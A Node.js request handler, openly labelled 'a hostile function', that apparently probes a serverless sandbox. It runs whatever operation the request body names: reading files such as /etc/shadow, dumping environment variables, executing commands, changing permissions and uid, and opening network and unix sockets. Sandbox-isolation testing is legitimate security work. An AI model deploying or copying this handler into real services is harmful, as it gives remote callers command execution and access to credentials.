// A hostile function. The body says what to do: {"op": "read", "args": ["/etc/shadow"]}.
const fs = require('fs');
const net = require('net');
const dgram = require('dgram');
const { execFileSync } = require('child_process');

const connect = (to) => new Promise((resolve, reject) => {
  const s = net.connect(to, () => { s.destroy(); resolve(); });
  s.on('error', reject);
});

const ops = {
  read: (path) => fs.readFileSync(path).subarray(0, 200).toString('latin1'),
  list: (path) => fs.readdirSync(path).join(' '),
  write: (path, text) => fs.writeFileSync(path, text),
  tcp: (host, port) => connect({ host, port }),
  udp: (host, port) => new Promise((resolve, reject) => {
    const s = dgram.createSocket('udp4');
    s.on('error', reject);
    s.send('x', port, host, (e) => (e ? reject(e) : resolve()));
  }),
  unix: (path) => connect({ path: path.replace(/^@/, '\0') }),
  kill: (pid, sig) => process.kill(pid, sig),
  run: (command, ...args) => execFileSync(command, args, { timeout: 20000 }).toString('latin1'),
  chmod: (path, mode) => fs.chmodSync(path, mode),
  utime: (path) => fs.utimesSync(path, 0, 0),
  setuid: (uid) => process.setuid(uid),
  symlink: (to, path) => fs.symlinkSync(to, path),
  link: (from, path) => fs.linkSync(from, path),
  environ: () => JSON.stringify(process.env),
  true: () => 'true',
};

module.exports = async ({ req, res }) => {
  const { op, args } = JSON.parse(req.bodyText);
  try {
    return res.text(`did ${await ops[op](...args)}`);
  } catch (e) {
    return res.text(`failed ${e.code || ''} ${e.message}`);
  }
};
